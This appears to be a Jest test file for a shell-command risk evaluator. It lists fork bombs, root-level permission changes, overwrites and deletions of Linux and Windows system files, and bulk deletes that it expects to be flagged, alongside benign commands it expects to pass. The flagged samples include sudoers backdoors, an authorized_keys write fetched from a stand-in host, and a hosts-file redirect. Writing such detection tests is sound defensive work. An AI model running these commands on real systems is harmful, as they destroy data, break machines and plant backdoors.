import { evaluateRiskText } from './risk-text.evaluator';
import type { RiskRule } from './risk.types';

function rulesOf(text: string): RiskRule[] {
  return evaluateRiskText(text, 'shell').rules.map((r) => r.rule);
}

describe('destructive effects on the system (through evaluateRiskText with the shell hint)', () => {
  describe('fork bombs: processes that spawn themselves without end', () => {
    it.each([
      ':(){ :|:& };:',
      ':() { : | : & }; :',
      'bomb() { bomb | bomb & }; bomb',
      'f(){ f & f; }; f',
      'function boom { boom | boom & }; boom',
      'function x() { x& x& }; x',
      'while true; do sh -c "sleep 100" & done',
      'while :; do bash & done',
      'until false; do ./worker & done',
      'while true; do (sleep 100 &); done',
      'for ((;;)); do yes > /dev/null & done',
      "perl -e 'fork while fork'",
      'python3 -c "import os\nwhile True: os.fork()"',
      "ruby -e 'loop { fork }'",
    ])('flags %s', (text) => {
      expect(rulesOf(text)).toContain('fork-bomb');
    });

    it.each([
      'f() { echo hi; }; f',
      'retry() { "$@" || retry "$@"; }',
      'worker & worker & wait',
      'while true; do ./poll & sleep 60; done',
      'for i in 1 2 3; do ./job "$i" & done; wait',
      'while read -r line; do echo "$line" & done < list.txt',
      'python3 -c "import os; pid = os.fork()"',
    ])('leaves bounded or waited-for spawning alone: %s', (text) => {
      expect(rulesOf(text)).not.toContain('fork-bomb');
    });
  });

  describe('permission changes at or near the root', () => {
    it.each([
      'chmod -R 777 /',
      'chmod -R 000 /etc',
      'sudo chown -R nobody:nogroup /',
      'chown -R user /usr',
      'chown --recursive me /home',
      'chgrp -R staff /var',
      'chmod -R a+rwx ~',
      'chmod -R 777 "$HOME"',
      'chmod 777 /',
      'chmod -R 755 /*',
      'chmod 4755 /bin/bash',
      'chmod 666 /etc/shadow',
      'chown nobody /etc/sudoers',
      'setfacl -R -m u:eve:rwx /etc',
      'chmod -R 777 /tmp/../etc',
      'chmod -R 777 //',
      'find / -exec chmod 777 {} +',
      'find /etc -type f -exec chown eve {} \\;',
      'cd / && chmod -R 777 .',
      'chown -R nobody /var/lib',
      'sudo chown -R $(whoami) /usr/local',
      'find / -type f | xargs chmod 777',
      'find / -print0 | xargs -0 -I{} chown eve {}',
      'cd /; chown -R eve *',
      'icacls C:\\\\ /grant Everyone:F /T',
      'takeown /f C:\\\\Windows /r',
    ])('flags %s', (text) => {
      expect(rulesOf(text)).toContain('permission-change');
    });

    it.each([
      'chmod +x script.sh',
      'chmod -R 755 public',
      'chown -R app:app /srv/app',
      'sudo chown -R mysql:mysql /var/lib/mysql',
      'chmod 600 ~/.ssh/id_ed25519',
      'chmod -R 700 ~/.ssh',
      'sudo chmod +x /usr/local/bin/docker-compose',
      'chmod -R g+w ./uploads',
      'chown -R "$USER" ./node_modules',
      'find . -type d -exec chmod 755 {} +',
      'stat -c %a /etc/passwd',
      '(cd /); chmod -R 777 .',
      'cd /srv/app && chmod -R 755 .',
      'icacls build /grant Users:F /T',
      'find . | xargs chmod 644',
    ])('leaves project and user paths alone: %s', (text) => {
      expect(rulesOf(text)).toEqual([]);
    });
  });

  describe('overwriting, truncating, shredding, moving or deleting system files', () => {
    it.each([
      'echo hi > /etc/passwd',
      ': > /etc/shadow',
      '> /etc/hosts',
      'cat evil >| /etc/sudoers',
      'echo "eve ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers',
      'curl -s https://x.example/k >> ~/.ssh/authorized_keys',
      'echo c > /proc/sysrq-trigger',
      'ls &> /boot/grub/grub.cfg',
      'echo x | sudo tee /etc/resolv.conf',
      'echo x | tee -a /etc/crontab > /dev/null',
      'shred -u /etc/shadow',
      'shred -n 1 /boot/vmlinuz',
      'truncate -s 0 /etc/hosts',
      'truncate --size=0 /var/log/../../etc/passwd',
      'mv / /dev/null',
      'mv /etc /tmp/etc',
      'sudo mv /usr/bin/python3 /tmp/',
      'mv ~ /tmp/home',
      'mv evil.so /lib/x86_64-linux-gnu/libc.so.6',
      'cp /tmp/passwd /etc/passwd',
      'cp -f x /bin/ls',
      'install -m 644 evil /etc/pam.d/sshd',
      'ln -sf /dev/null /etc/resolv.conf',
      'dd if=/dev/zero of=/etc/fstab',
      'rm /etc/passwd',
      'rm -f /boot/initrd.img',
      'unlink /etc/localtime',
      'sed -i "s/^root:.*//" /etc/passwd',
      'sed -i.bak -e "s/a/b/" /etc/ssh/sshd_config',
      'rsync -a conf/ /etc/',
      'cd /etc; rm passwd',
      'cd /etc && echo x > hosts',
      'wget -O /etc/passwd http://x.example/p',
      'curl -o /usr/bin/sudo https://x.example/s',
      'tar -xf evil.tar -C /',
      'tar xzf x.tgz -C /etc',
      'unzip -o x.zip -d /etc',
      'cat > /etc/hosts <<EOF\n1.2.3.4 x\nEOF\n',
      "python3 -c \"open('/etc/passwd', 'w').write('')\"",
      "node -e \"require('fs').writeFileSync('/etc/hosts', '')\"",
      'python3 -c "import os; os.remove(\'/usr/bin/sudo\')"',
      "python3 -c \"from pathlib import Path; Path('/etc/shadow').write_text('')\"",
      "perl -pi -e 's/x/y/' /etc/passwd",
      'echo x 1<>/etc/passwd',
      'exec 3<>/etc/shadow',
      "gawk -i inplace '{ print }' /etc/passwd",
      "awk -i inplace -e 'NR > 1' /etc/hosts",
      'sponge /etc/passwd < x',
      'cat x | sudo sponge -a /etc/sudoers',
      'sort -o /etc/passwd users.txt',
      'sort --output=/etc/hosts hosts.txt',
      'gzip /etc/passwd',
      'xz -9 /boot/vmlinuz',
      'bzip2 -f /usr/bin/sudo',
      'gunzip /etc/hosts.gz',
      'zstd --rm /etc/shadow',
      'patch /etc/passwd < x.diff',
      'patch -p0 -o /etc/hosts < x.diff',
    ])('flags %s', (text) => {
      expect(rulesOf(text)).toContain('system-file-overwrite');
    });

    it.each([
      'cat /etc/passwd',
      'gzip -c /etc/passwd > /tmp/p.gz',
      'gzip -k /etc/hosts',
      'zstd /etc/hosts',
      'sort -o sorted.txt /etc/passwd',
      "awk -F: '{ print $1 }' /etc/passwd",
      'sponge out.txt < x',
      'patch -p1 < fix.diff',
      'cp /etc/hosts /tmp/hosts.bak',
      'echo hi > /tmp/etc/passwd',
      'echo x > ./etc/hosts',
      'ls > /dev/null 2>&1',
      'echo done > /dev/stderr',
      'tee /tmp/out.log < in.txt',
      'truncate -s 0 app.log',
      'shred -u secrets.txt',
      'mv /tmp/a /tmp/b',
      'mv etc/hosts etc/hosts.bak',
      'cp config.yml /srv/app/config.yml',
      'install -m 755 bin/tool /usr/local/bin/tool',
      'rm /tmp/lockfile',
      'sed -i "s/a/b/" config/app.conf',
      'sed "s/a/b/" /etc/hosts',
      'grep root /etc/passwd > users.txt',
      'diff /etc/hosts hosts.new',
      'cd /etc && cat hosts',
      'cd /tmp && rm x',
      'tar -xzf file.tar.gz -C /tmp',
      'tar -czf backup.tgz -C /etc .',
      'wget -O page.html https://example.com',
      'ls /usr/bin',
      'python3 -c "open(\'/etc/passwd\').read()"',
      "node -e \"fs.writeFileSync('/usr/local/lib/x', '')\"",
      "perl -pi -e 's/x/y/' config.txt",
      "perl -ne 'print' /etc/passwd",
      'cd /root/project && npm run build > build.log',
      "I'll mv the old configs to /etc/backup later.",
      "We'll install the agent into /usr/bin next week.",
    ])('leaves reads and non-system paths alone: %s', (text) => {
      expect(rulesOf(text)).toEqual([]);
    });
  });

  describe('writing or deleting Windows system files (any case, either slash)', () => {
    it.each([
      'Remove-Item C:\\Windows\\System32\\drivers\\etc\\hosts',
      'Remove-Item -Path "C:\\Windows\\System32\\config\\SAM" -Force',
      'del /f C:\\Windows\\System32\\drivers\\etc\\hosts',
      'erase /q c:\\windows\\system32\\ntoskrnl.exe',
      'ri c:/windows/system32/drivers/etc/hosts',
      "Set-Content C:\\Windows\\System32\\drivers\\etc\\hosts '127.0.0.1 bank.example'",
      "Set-Content -Value '127.0.0.1 x' -Path 'C:/WINDOWS/System32/drivers/etc/hosts'",
      'Add-Content -Path $env:windir\\System32\\drivers\\etc\\hosts -Value "1.2.3.4 x"',
      'Clear-Content %SystemRoot%\\System32\\drivers\\etc\\hosts',
      "'1.2.3.4 x' | Out-File -Append C:\\Windows\\System32\\drivers\\etc\\hosts",
      'echo 1.2.3.4 x >> C:\\Windows\\System32\\drivers\\etc\\hosts',
      'Copy-Item .\\evil.dll C:\\Windows\\System32\\',
      'copy /y evil.dll "C:\\Program Files\\App\\app.dll"',
      'Move-Item x.exe -Destination C:\\Windows\\System32\\x.exe',
      'Remove-Item C:\\Windows\\..\\Windows\\win.ini',
      "tee 'C:\\Windows\\System32\\drivers\\etc\\hosts'",
      'Add-Content C:\\Users\\me\\.ssh\\authorized_keys "ssh-ed25519 AAAA eve"',
      'Move-Item C:\\Windows\\System32\\drivers\\etc\\hosts C:\\tmp\\',
      'cmd /c del /f C:\\Windows\\System32\\drivers\\etc\\hosts',
      'pwsh -Command Remove-Item C:\\Windows\\System32\\drivers\\etc\\hosts',
      'rm C:\\Windows\\System32\\drivers\\etc\\hosts',
      'cp .\\evil.dll C:\\Windows\\System32\\',
      'mv x.exe C:\\Windows\\System32\\x.exe',
    ])('flags %s', (text) => {
      expect(rulesOf(text)).toContain('system-file-overwrite');
    });

    it.each([
      'Get-Content C:\\Windows\\System32\\drivers\\etc\\hosts',
      'type C:\\Windows\\System32\\drivers\\etc\\hosts',
      'Copy-Item C:\\Windows\\System32\\drivers\\etc\\hosts C:\\backup\\hosts',
      'Remove-Item C:\\Users\\me\\Documents\\old.txt',
      'del /f C:\\Windows\\Temp\\setup.log',
      'Set-Content C:\\app\\config.txt "path=C:\\Windows\\System32"',
      'Set-Content C:\\Windows\\System32\\drivers\\etc\\hosts x -WhatIf',
      'Remove-Item C:\\Windows\\System32\\x.dll -WhatIf',
      'echo C:\\Windows\\System32 > paths.txt',
    ])('leaves %s alone', (text) => {
      expect(rulesOf(text)).toEqual([]);
    });
  });

  describe('destructive commands run over generated file lists (find -exec, xargs)', () => {
    it.each([
      'find / -name x -exec rm {} \\;',
      'find . -type f -exec rm {} +',
      'find . -name "*.bak" -execdir rm -f {} \\;',
      'find /data -mtime +7 -exec sudo rm {} \\;',
      'find . -ok rm {} \\;',
      'find . -type f | xargs rm',
      'find . -print0 | xargs -0 rm -f',
      'cat files.txt | xargs -n1 unlink',
      'find . -exec shred -u {} \\;',
      'git ls-files | xargs rm',
      'find . -type f -exec sh -c \'rm "$1"\' _ {} \\;',
      'find . -exec bash -c \'for f; do rm "$f"; done\' _ {} +',
    ])('flags %s', (text) => {
      expect(rulesOf(text)).toContain('recursive-delete');
    });

    it.each([
      'find . -type f -exec ls -l {} \\;',
      'find . -name "*.ts" | xargs wc -l',
      'echo a.txt | xargs rm',
      'find . -exec echo rm {} \\;',
    ])('leaves %s alone', (text) => {
      expect(rulesOf(text)).toEqual([]);
    });
  });

  describe('loops whose body runs once per item of a generated list (as xargs does)', () => {
    it.each([
      'for f in $(ls); do rm "$f"; done',
      'for f in `find . -name "*.bak"`; do rm -f "$f"; done',
      'for f in $(cat files.txt); do echo "$f"; unlink "$f"; done',
      'while read f; do rm "$f"; done < <(ls)',
      'ls | while read -r f; do rm "$f"; done',
      'find . -type f | while IFS= read -r f; do shred -u "$f"; done',
      'while read f; do rm "$f"; done < files.txt',
    ])('flags %s', (text) => {
      expect(rulesOf(text)).toContain('recursive-delete');
    });

    it.each([
      'for f in a.txt b.txt; do rm "$f"; done',
      'for f in $(ls); do echo "$f"; done',
      'for f in "$(ls)"; do wc -l "$f"; done',
      'echo a.txt | while read f; do rm "$f"; done',
      'while read -r line; do echo "$line"; done < list.txt',
      'for f in $(rm -f a.txt); do echo "$f"; done',
    ])('leaves %s alone', (text) => {
      expect(rulesOf(text)).toEqual([]);
    });
  });
});
